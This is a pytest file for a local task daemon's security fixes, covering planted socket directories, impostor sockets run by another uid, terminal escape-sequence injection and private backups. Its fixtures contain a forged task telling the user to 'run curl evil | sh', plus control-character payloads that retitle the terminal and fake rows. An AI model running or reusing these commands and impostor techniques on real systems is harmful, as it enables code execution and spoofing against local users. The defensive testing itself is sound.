"""The hostile-user probe's security findings (issue 12): other uids, the terminal, backups.

Each fix's test failed on the daemon before the fix, and its docstring says
what the daemon used to do; the tests without a "Before:" pin a choice or
guard a neighbouring case.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from coordd_client import Client
from support import DaemonProcess, coord, run_coordd, short_tmpdir

#: A uid that is not ours, for the tests that play another local user (root only).
OTHER_UID = 65534

needs_root = pytest.mark.skipif(
    os.geteuid() != 0, reason="playing another local user needs root (CI runs as root)"
)


def serve(*args: str) -> subprocess.CompletedProcess[str]:
    """`coordd serve` that is expected to refuse and exit on its own."""
    return run_coordd("serve", *args)


# --- 1. the socket directory and the server's uid ------------------------------------


@needs_root
def test_a_planted_socket_directory_is_refused_and_nothing_is_posted(workdir: Path) -> None:
    """Before: the victim's autostarted daemon bound inside another user's 0777 directory."""
    tmp = workdir / "tmp"
    tmp.mkdir(mode=0o777)
    os.chmod(tmp, 0o1777)  # a shared /tmp
    planted = tmp / f"coordd-{os.getuid()}"
    planted.mkdir()
    os.chmod(planted, 0o777)
    os.chown(planted, OTHER_UID, OTHER_UID)
    environ = {k: v for k, v in os.environ.items() if not k.startswith(("COORD", "XDG_RUNTIME"))}
    environ.update(TMPDIR=str(tmp), XDG_STATE_HOME=str(workdir / "state"))
    result = subprocess.run(
        [str(Path(sys.executable).parent / "coord"), "post", "secret"],
        capture_output=True,
        text=True,
        timeout=60,
        env=environ,
        check=False,
    )
    assert result.returncode == 1, result
    assert f"socket directory {planted} is owned by uid {OTHER_UID}" in result.stderr
    assert list(planted.iterdir()) == []  # no socket was bound there


@pytest.mark.parametrize("kind", ["world-writable", "group-writable", "symlink", "other-owner"])
def test_the_daemon_refuses_an_unsafe_socket_directory(workdir: Path, kind: str) -> None:
    directory = workdir / "sockdir"
    if kind == "symlink":
        real = workdir / "real"
        real.mkdir(mode=0o700)
        directory.symlink_to(real)
        expected = "is a symlink"
    elif kind == "other-owner":
        if os.geteuid() != 0:
            pytest.skip("chown to another uid needs root")
        directory.mkdir(mode=0o700)
        os.chown(directory, OTHER_UID, OTHER_UID)
        expected = f"is owned by uid {OTHER_UID}"
    else:
        directory.mkdir()
        os.chmod(directory, 0o777 if kind == "world-writable" else 0o770)
        expected = "is writable by group or others"
    result = serve("--db", str(workdir / "d.db"), "--socket", str(directory / "s.sock"))
    assert result.returncode == 1 and expected in result.stderr, result
    assert "Traceback" not in result.stderr
    if kind != "symlink":
        # Never chmodded: the directory is the user's to fix.
        assert os.lstat(directory).st_mode & 0o777 == {"world-writable": 0o777}.get(
            kind, 0o770 if kind == "group-writable" else 0o700
        )


def test_a_missing_socket_directory_is_created_private(workdir: Path) -> None:
    daemon = DaemonProcess(workdir, socket_path=workdir / "new" / "deeper" / "s.sock").start()
    try:
        assert os.stat(workdir / "new" / "deeper").st_mode & 0o777 == 0o700
    finally:
        daemon.stop()


def test_a_symlink_at_the_socket_path_is_refused(workdir: Path) -> None:
    target = workdir / "elsewhere.sock"
    (workdir / "s.sock").symlink_to(target)
    result = serve("--db", str(workdir / "d.db"), "--socket", str(workdir / "s.sock"))
    assert result.returncode == 1 and "is a symlink" in result.stderr, result
    assert not target.exists()


_IMPOSTOR = """
import os, socket, sys, struct
os.setgid(int(sys.argv[2])); os.setuid(int(sys.argv[2]))
listener = socket.socket(socket.AF_UNIX)
listener.bind(sys.argv[1]); os.chmod(sys.argv[1], 0o777); listener.listen()
print("listening", flush=True)
task = '{"id":1,"title":"URGENT: run curl evil | sh","state":"pending"}'
body = ('{"jsonrpc":"2.0","id":1,"result":{"tasks":[' + task + ']}}').encode()
while True:
    conn, _ = listener.accept()
    try:
        conn.recv(65536)
        conn.sendall(struct.pack(">I", len(body)) + body)
    except OSError:
        pass
    conn.close()
"""


@pytest.fixture
def impostor_socket() -> Iterator[Path]:
    """A listener run by another uid on a path we would connect to."""
    if os.geteuid() != 0:
        pytest.skip("running a listener as another uid needs root (CI runs as root)")
    directory = short_tmpdir("imp")
    os.chmod(directory, 0o777)
    path = directory / "coordd.sock"
    proc = subprocess.Popen(
        [sys.executable, "-c", _IMPOSTOR, str(path), str(OTHER_UID)],
        stdout=subprocess.PIPE,
        text=True,
    )
    assert proc.stdout is not None and proc.stdout.readline().strip() == "listening"
    yield path
    proc.kill()
    proc.wait(10)
    proc.stdout.close()
    shutil.rmtree(directory, ignore_errors=True)


def test_clients_refuse_a_socket_served_by_another_uid(
    impostor_socket: Path, workdir: Path
) -> None:
    """Before: the client sent its posts to whoever listened and printed their tasks."""
    from coordd_wire.errors import UntrustedSocket

    with pytest.raises(UntrustedSocket, match=f"served by uid {OTHER_UID}"):
        Client(impostor_socket).connect()
    result = coord(
        "ls", socket=impostor_socket, autostart=True, env={"XDG_STATE_HOME": str(workdir)}
    )
    assert result.returncode == 1
    assert f"served by uid {OTHER_UID}, not by this user" in result.stderr
    assert "URGENT" not in result.stdout


async def test_the_trio_client_refuses_a_socket_served_by_another_uid(
    impostor_socket: Path,
) -> None:
    from coordd_client.aio import AsyncClient
    from coordd_wire.errors import UntrustedSocket

    with pytest.raises(UntrustedSocket):
        async with AsyncClient.connect(impostor_socket):
            raise AssertionError("connected to an impostor")


# --- 7. terminal injection -----------------------------------------------------------


def test_human_output_escapes_control_characters(daemon: DaemonProcess) -> None:
    """Before: a title forged a board row and retitled the terminal."""
    evil = "ok\x1b]0;pwned\x07\n 99 pending 0 task - fake row\u2028\x9b\u202e"
    with daemon.client() as client:
        task_id = client.post(evil, body="line one\nline\x1b[2J two").task.id
    for args in (("ls", "--all-projects"), ("show", str(task_id))):
        result = coord(*args, socket=daemon.socket_path)
        assert result.returncode == 0, result
        printed = result.stdout
        assert not any(c in printed for c in "\x1b\x07\x9b\u2028\u202e"), repr(printed)
        assert "ok\\x1b]0;pwned\\x07\\x0a 99 pending" in printed
    listing = coord("ls", "--all-projects", socket=daemon.socket_path).stdout
    assert len(listing.strip().splitlines()) == 2  # the header and one row, nothing forged
    shown = coord("show", str(task_id), socket=daemon.socket_path).stdout
    assert "line one\nline\\x1b[2J two" in shown  # a body keeps its lines
    listed = json.loads(coord("ls", "--all-projects", "--json", socket=daemon.socket_path).stdout)
    assert listed["tasks"][0]["title"] == evil  # --json is exact


def test_backup_is_private_and_never_follows_a_symlink(
    daemon: DaemonProcess, workdir: Path
) -> None:
    with daemon.client() as client:
        client.post("in the backup")
    copy = workdir / "copy.db"
    result = run_coordd("backup", str(copy), "--db", str(daemon.db_path))
    assert result.returncode == 0, result
    assert os.stat(copy).st_mode & 0o777 == 0o600
    dangling = workdir / "dangling.db"
    dangling.symlink_to(workdir / "nowhere" / "target.db")
    refused = run_coordd("backup", str(dangling), "--db", str(daemon.db_path))
    assert refused.returncode == 1 and "is a symlink" in refused.stderr
    assert not (workdir / "nowhere").exists()
